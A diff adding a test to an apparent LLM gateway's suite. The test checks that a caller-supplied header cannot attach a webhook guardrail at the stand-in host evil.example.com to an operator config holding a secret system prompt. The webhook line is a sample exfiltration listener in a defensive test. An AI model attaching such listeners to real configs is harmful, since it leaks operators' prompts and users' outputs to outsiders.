@@ -188,6 +188,27 @@ def test_headers_add_guardrails_after_those_of_each_target(
     assert [hook["id"] for hook in results(answer, "before")] == ["own", "more"]
 
 
+@edges
+def test_leak_05_a_header_does_not_bring_a_listener_to_the_operator_s_config(
+    asked: Ask, upstream: Upstream
+) -> None:
+    """Which may add a prompt of its own to what a caller sends."""
+    listener = json.dumps([{"webhook": {"webhookURL": "https://evil.example.com/"}}])
+    given = {"x-gateway-default-output-guardrails": listener}
+    own = at(upstream, override_params={"messages": [{"role": "system", "content": "secret"}]})
+    for config, more, options in (
+        (own, {}, {}),
+        (None, {"x-gateway-config": "named"}, {"configs": {"named": own}}),
+        (None, {"x-gateway-virtual-key": "house"}, {"virtual_keys": {"house": own}}),
+    ):
+        answer = asked(config, headers={**given, **more}, **options)
+        assert (answer.status, answer.error["param"], upstream.seen) == (403, next(iter(given)), [])
+    upstream.script(CHAT, saying("fine"))
+    told = {"x-gateway-default-input-guardrails": json.dumps([{"mine": {}}])}
+    answer = asked(own, headers=told, checks={"mine": lambda facts: True})
+    assert answer.status == 200, "the host's own code may see it"
+
+
 # ── G4: once the answer is sent ──────────────────────────────────────────
 
 
